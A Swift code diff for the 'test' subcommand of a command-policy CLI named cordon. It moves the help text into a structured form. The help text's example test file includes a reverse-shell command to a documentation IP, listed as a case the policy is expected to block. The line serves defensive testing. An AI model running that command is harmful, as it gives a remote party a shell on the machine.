@@ -8,35 +8,36 @@ import CordonRun
 enum TestCommand: Subcommand {
     static let name = "test"
     static let summary = "run policy test files (expected decisions for commands and tool calls)"
-    static let help = """
-        usage: cordon test [FILE...] [--json]
-
-        Runs policy test files (default: policies/tests/*.yaml under the current directory) and
-        prints each case as ok or FAIL, failing cases with expected vs got and the findings,
-        then `N passed, N failed`. Exit 0 when every case passed, 1 otherwise, 78 when a test
-        file or its policy is invalid.
-
-        A test file:
-          policy: ../default.yaml        # relative to the test file; 'default' = embedded
-          cases:
-            - name: a reverse shell is blocked          # optional
-              command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
-              expect: block                             # allow | requires_approval | block
-              min_score: 80                             # optional: min_score, max_score, rule
-            - argv: [git, status]                       # an argv as cordon run gets it
-              expect: allow
-            - tool: send_email                          # a tool call, with args:
-              args: { to: ops@example.com }
-              expect: requires_approval
-            - command: ./deploy.sh                      # environment:, action_type:, context:
-              action_type: production_deploy
-              environment: production
-              expect: requires_approval
-
-        """
+    static let helpText = HelpText(
+        usage: ["cordon test [FILE...] [--json]"],
+        about: """
+            Runs policy test files (default: policies/tests/*.yaml under the current directory) and
+            prints each case as ok or FAIL, failing cases with expected vs got and the findings,
+            then `N passed, N failed`. Exit 0 when every case passed, 1 otherwise, 78 when a test
+            file or its policy is invalid.
+            """,
+        sections: [("options", [.flag("json", "one JSON object per case")])],
+        footer: """
+            A test file:
+              policy: ../default.yaml        # relative to the test file; 'default' = embedded
+              cases:
+                - name: a reverse shell is blocked          # optional
+                  command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
+                  expect: block                             # allow | requires_approval | block
+                  min_score: 80                             # optional: min_score, max_score, rule
+                - argv: [git, status]                       # an argv as cordon run gets it
+                  expect: allow
+                - tool: send_email                          # a tool call, with args:
+                  args: { to: ops@example.com }
+                  expect: requires_approval
+                - command: ./deploy.sh                      # environment:, action_type:, context:
+                  action_type: production_deploy
+                  environment: production
+                  expect: requires_approval
+            """)
 
     static func run(_ args: [String], _ ctx: Context) throws(CLIError) -> Int32 {
-        let p = try ArgumentParser.parse(args, options: [OptionSpec("json", value: false)], command: name)
+        let p = try ArgumentParser.parse(args, options: helpText.options, command: name)
         var files = p.positionals
         if files.isEmpty {
             files = listFiles("policies/tests", suffixes: [".yaml", ".yml"])
